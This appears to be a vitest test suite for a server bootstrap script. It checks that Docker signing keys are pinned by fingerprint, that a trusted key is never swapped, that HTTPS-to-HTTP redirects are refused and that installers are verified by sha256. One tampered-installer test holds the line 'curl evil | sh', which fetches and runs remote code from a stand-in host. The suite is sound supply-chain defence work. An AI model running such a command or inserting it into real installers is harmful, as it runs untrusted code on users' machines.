// What bootstrap.sh trusts: docker-ce signing keys by full fingerprint only (never a mirror's
// say-so, never a swap), installers by sha256, and no redirect off TLS. The script's own
// functions, driven with real gpg, real curl and real HTTP(S) servers on loopback.
import { execFileSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { createServer as createHttp, type IncomingMessage, type Server, type ServerResponse } from "node:http";
import { createServer as createHttps } from "node:https";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { DOCKER_CE_KEY_FINGERPRINT as DOCKER } from "../../src/config/signing-keys.js";
import { PROJECT_DIR } from "../helpers/config.js";
import { removeTempDirs, sh, shAsync } from "../helpers/script.js";

const DOCKER_KEY = readFileSync(join(PROJECT_DIR, "src/bootstrap/keys/docker-ce.asc"), "utf8");
const DOCKER_SUBKEY = "D3306A018370199E527AE7997EA0A9C3F273FCD8";
/** Throwaway keys made for these tests (public halves only; no secret half was kept). */
const A = { fpr: "06C92374F8B865AE4F6F96EBFE845030FE2327F8", key: readFileSync(join(PROJECT_DIR, "test/fixtures/keys/throwaway-a.asc"), "utf8") };
const B = { fpr: "98565E42F1BD6853E6B80159A4D2BB7F42E38557", key: readFileSync(join(PROJECT_DIR, "test/fixtures/keys/throwaway-b.asc"), "utf8") };

afterAll(removeTempDirs);

const q = (s: string) => `'${s.replace(/'/g, "'\\''")}'`;
/** Shell that writes FILE with CONTENT (in the test's own state dir). */
const put = (file: string, content: string) => `mkdir -p "$(dirname ${file})"; printf '%s' ${q(content)} >${file}`;

describe("key_fingerprints: the primary keys a file holds, as gpg validates them", () => {
  it.each([
    ["Docker's key: its primary only, not its signing subkey", DOCKER_KEY, `${DOCKER}\n`],
    ["two keys in one file", A.key + B.key, `${A.fpr}\n${B.fpr}\n`],
    ["not a key at all", "<html>404</html>", ""],
  ])("%s", (_what, content, want) => {
    const r = sh(`${put('"$BERTH_STATE/k"', content)}; key_fingerprints "$BERTH_STATE/k"`);
    expect([r.code, r.stdout]).toEqual([0, want]);
  });
});

describe("verified_key: exactly the pinned key, or nothing", () => {
  const verify = (content: string, fpr: string) =>
    sh(`${put('"$BERTH_STATE/in"', content)}; verified_key "$BERTH_STATE/in" ${fpr} "mirror evil (http://evil/gpg)" "$BERTH_STATE/out" && echo ok`);

  it("accepts Docker's key for Docker's fingerprint and writes it as a binary keyring and armored", () => {
    const r = verify(DOCKER_KEY, DOCKER);
    expect([r.code, r.stdout, r.stderr]).toEqual([0, "ok\n", ""]);
    const colons = execFileSync("gpg", ["--no-autostart", "--homedir", r.state, "--batch", "--show-keys", "--with-colons", join(r.state, "out")], { encoding: "utf8" });
    expect(colons.split("\n").filter((l) => l.startsWith("fpr:")).map((l) => l.split(":")[9])).toEqual([DOCKER, DOCKER_SUBKEY]);
    expect(readFileSync(join(r.state, "out.asc"), "utf8")).toMatch(/^-----BEGIN PGP PUBLIC KEY BLOCK-----\n/);
  });

  it.each([
    ["another key", A.key, DOCKER, `is ${A.fpr}, not the expected ${DOCKER}`],
    ["a subkey's fingerprint pinned as if it were the key", DOCKER_KEY, DOCKER_SUBKEY, `is ${DOCKER}, not the expected ${DOCKER_SUBKEY}`],
    ["the right key with another one beside it", DOCKER_KEY + A.key, DOCKER, `is 2 keys (${DOCKER}, ${A.fpr}), not the expected ${DOCKER}`],
    ["an HTML error page", "<html>gateway timeout</html>", DOCKER, `is not an OpenPGP public key, not the expected ${DOCKER}`],
  ])("refuses %s, naming where it came from, what it is and what was expected", (_what, content, fpr, says) => {
    const r = verify(content, fpr);
    expect(r.code).toBe(1);
    expect(r.stdout).toBe("");
    expect(r.stderr).toContain(`FAILED: the docker-ce signing key from mirror evil (http://evil/gpg) ${says} — berth trusts no other key for this mirror and installed nothing from it (if its key changed on purpose, pin the new fingerprint in dockerCeKeyFingerprint)`);
    expect(() => readFileSync(join(r.state, "out"))).toThrow(/ENOENT/);
    const status = JSON.parse(readFileSync(join(r.state, "status.json"), "utf8")) as { phase: string; errors: string[] };
    expect(status.phase).toBe("failed");
  });
});

describe("install_key: a host never swaps the key it trusts", () => {
  const keyring = (k: { key: string }) => `${put('"$BERTH_STATE/src.asc"', k.key)}; gpg --batch --dearmor <"$BERTH_STATE/src.asc" >"$BERTH_STATE/src.gpg"`;

  it("installs a key where none is, and again the same key changes nothing", () => {
    const r = sh(`${keyring(A)}; install_key "$BERTH_STATE/src.gpg" "$BERTH_STATE/keyrings/docker.gpg" ${A.fpr} labkit && echo first; install_key "$BERTH_STATE/src.gpg" "$BERTH_STATE/keyrings/docker.gpg" ${A.fpr} labkit || echo unchanged`);
    expect([r.code, r.stdout]).toEqual([0, "first\nunchanged\n"]);
  });

  it("refuses a different key over an installed one and leaves the installed one as it was", () => {
    const r = sh(`${keyring(A)}; mkdir -p "$BERTH_STATE/keyrings"; cp "$BERTH_STATE/src.gpg" "$BERTH_STATE/keyrings/docker.gpg"; sha256sum <"$BERTH_STATE/keyrings/docker.gpg" >"$BERTH_STATE/before"
      ${keyring(B)}; install_key "$BERTH_STATE/src.gpg" "$BERTH_STATE/keyrings/docker.gpg" ${B.fpr} labkit2`);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(`FAILED: docker-ce mirror labkit2 is signed with key ${B.fpr}, but this host already trusts key ${A.fpr} in ${r.state}/keyrings/docker.gpg — berth never replaces a trusted signing key; if the new key is intended, remove ${r.state}/keyrings/docker.gpg on the host and run the bootstrap again`);
    expect(execFileSync("sha256sum", { input: readFileSync(join(r.state, "keyrings/docker.gpg")), encoding: "utf8" })).toBe(readFileSync(join(r.state, "before"), "utf8"));
  });
});

/** A loopback HTTP(S) server answering from a table of path → handler. */
async function serve(routes: Record<string, (res: ServerResponse) => void>, tls?: { key: Buffer; cert: Buffer }): Promise<{ server: Server; base: string }> {
  const handler = (req: IncomingMessage, res: ServerResponse) => {
    const route = routes[req.url ?? ""];
    if (route) route(res);
    else res.writeHead(404).end("not here");
  };
  const server: Server = tls ? createHttps(tls, handler) : createHttp(handler);
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  return { server, base: `${tls ? "https" : "http"}://127.0.0.1:${(server.address() as AddressInfo).port}` };
}

describe("docker_key: berth's own copy when it ships one, else the mirror's, verified", () => {
  let http: { server: Server; base: string };
  beforeAll(async () => {
    http = await serve({
      "/good/linux/debian/gpg": (res) => res.end(A.key),
      "/evil/linux/debian/gpg": (res) => res.end(B.key),
      "/docker/linux/debian/gpg": (res) => res.end(A.key),
    });
  });
  afterAll(() => new Promise<void>((r) => http.server.close(() => r())));
  const key = (url: string, fpr: string, shipped = ":") =>
    shAsync(`DOCKER_REPO=debian; ${shipped}; docker_key mirror1 ${url} ${fpr} "$BERTH_STATE/out" && key_fingerprints "$BERTH_STATE/out"`);

  it("takes a pinned custom key from the mirror when it is that key", async () => {
    const r = await key(`${http.base}/good`, A.fpr);
    expect([r.code, r.stdout]).toEqual([0, `${A.fpr}\n`]);
  });

  it("fails naming the mirror, the expected and the served fingerprint", async () => {
    const r = await key(`${http.base}/evil`, A.fpr);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(`FAILED: the docker-ce signing key from mirror1 (${http.base}/evil/linux/debian/gpg) is ${B.fpr}, not the expected ${A.fpr}`);
  });

  it("uses berth's copy of Docker's key and never asks the mirror (which here serves another)", async () => {
    const r = await key(`${http.base}/docker`, DOCKER, put(`"$BERTH_ETC/keys/${DOCKER}.asc"`, DOCKER_KEY));
    expect([r.code, r.stdout]).toEqual([0, `${DOCKER}\n`]);
  });

  it("fails when berth's copy on the host is not the key its name says", async () => {
    const r = await key(`${http.base}/docker`, DOCKER, put(`"$BERTH_ETC/keys/${DOCKER}.asc"`, A.key));
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(`FAILED: the docker-ce signing key from berth's copy (${r.state}/keys/${DOCKER}.asc) is ${A.fpr}, not the expected ${DOCKER}`);
  });
});

describe("downloads never follow a redirect off TLS", () => {
  let dir = "";
  let http: { server: Server; base: string };
  let https: { server: Server; base: string };
  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), "berth-tls-"));
    execFileSync("openssl", ["req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1", "-subj", "/CN=127.0.0.1", "-addext", "subjectAltName=IP:127.0.0.1",
      "-keyout", join(dir, "key.pem"), "-out", join(dir, "cert.pem")], { stdio: "ignore" });
    http = await serve({
      "/payload": (res) => res.end("plain payload"),
      "/to-http": (res) => res.writeHead(302, { location: `${http.base}/payload` }).end(),
    });
    const tls = { key: readFileSync(join(dir, "key.pem")), cert: readFileSync(join(dir, "cert.pem")) };
    https = await serve({
      "/payload": (res) => res.end("tls payload"),
      "/to-http": (res) => res.writeHead(302, { location: `${http.base}/payload` }).end(),
      "/to-https": (res) => res.writeHead(302, { location: `${https.base}/payload` }).end(),
      "/docker-ce/linux/debian/dists/bookworm/Release": (res) => res.writeHead(302, { location: `${http.base}/payload` }).end(),
    }, tls);
  });
  afterAll(async () => {
    await Promise.all([http, https].map((s) => new Promise<void>((r) => s.server.close(() => r()))));
    rmSync(dir, { recursive: true, force: true });
  });
  const fetch = (url: string) => shAsync(`fetch ${url} "$BERTH_STATE/got" && cat "$BERTH_STATE/got"`, { CURL_CA_BUNDLE: join(dir, "cert.pem") });

  it("follows https → https and http → http", async () => {
    expect((await fetch(`${https.base}/to-https`)).stdout).toBe("tls payload");
    expect((await fetch(`${http.base}/to-http`)).stdout).toBe("plain payload");
  });

  it("refuses https → http, saying why", async () => {
    const r = await fetch(`${https.base}/to-http`);
    expect(r.code).not.toBe(0);
    expect(r.stdout).toBe("");
    expect(r.stderr).toMatch(/curl: \(1\) Protocol "http" not supported/);
  });

  it("does not count a mirror that redirects its https probe to http as answering", async () => {
    const r = await shAsync(`printf 'docker-ce downgrade %s/docker-ce ${DOCKER}\\n' ${https.base} >"$BERTH_ETC/mirrors.list"; OS_FAMILY=apt DOCKER_REPO=debian OS_CODENAME=bookworm OS_ID=debian OS_VERSION=12; pick_docker_mirror`, { CURL_CA_BUNDLE: join(dir, "cert.pem"), BERTH_PROBE_TIMEOUT: "2" });
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(`FAILED: no docker-ce mirror answered for debian 12: downgrade (${https.base}/docker-ce)`);
  });
});

describe("check_installer: sha256 or nothing runs", () => {
  const check = (content: string, want: string, url: string) => sh(`${put('"$BERTH_STATE/installer.sh"', content)}; CONDA_DISTRIBUTION=miniconda; check_installer "$BERTH_STATE/installer.sh" ${q(want)} labkit ${url} && echo ran`);
  const sum = (s: string) => execFileSync("sha256sum", { input: s, encoding: "utf8" }).split(" ")[0] ?? "";

  it("runs an installer with the pinned sha256, from http too", () => {
    const r = check("echo installer", sum("echo installer"), "http://mirror/Miniconda3.sh");
    expect([r.code, r.stdout]).toEqual([0, "ran\n"]);
    expect(r.stderr).toContain(`miniconda installer from labkit: sha256 ${sum("echo installer")} verified`);
  });

  it("refuses a tampered installer, naming the mirror, both hashes and that it did not run", () => {
    const want = sum("echo installer");
    const r = check("echo installer; curl evil | sh", want, "http://mirror/Miniconda3.sh");
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(`FAILED: the miniconda installer from labkit (http://mirror/Miniconda3.sh) has sha256 ${sum("echo installer; curl evil | sh")}, not the expected ${want} — it is not the installer the stack pins (tampered with, or another upload under the same name); berth did not run it`);
  });

  it("refuses an unverifiable installer over plain HTTP, and warns for one over https", () => {
    const r = check("x", "", "http://mirror/Miniconda3-latest.sh");
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("FAILED: refusing the miniconda installer from labkit (http://mirror/Miniconda3-latest.sh): plain HTTP and no sha256 to check it — set berth:bootstrap.conda.sha256, pin a version berth knows, or use an https mirror");
    const ok = check("x", "", "https://mirror/Miniconda3-latest.sh");
    expect([ok.code, ok.stdout]).toEqual([0, "ran\n"]);
    expect(ok.stderr).toContain("warning: the miniconda installer from labkit (https://mirror/Miniconda3-latest.sh) is not verified: no sha256 known for it (set berth:bootstrap.conda.sha256)");
  });

  it("picks the hash for the host's architecture", () => {
    const r = sh(`CONDA_SHA256_X86_64=aa; CONDA_SHA256_AARCH64=bb; printf '%s,%s,%s' "$(installer_sha256 x86_64)" "$(installer_sha256 aarch64)" "$(installer_sha256 ppc64le)"`);
    expect(r.stdout).toBe("aa,bb,");
  });
});
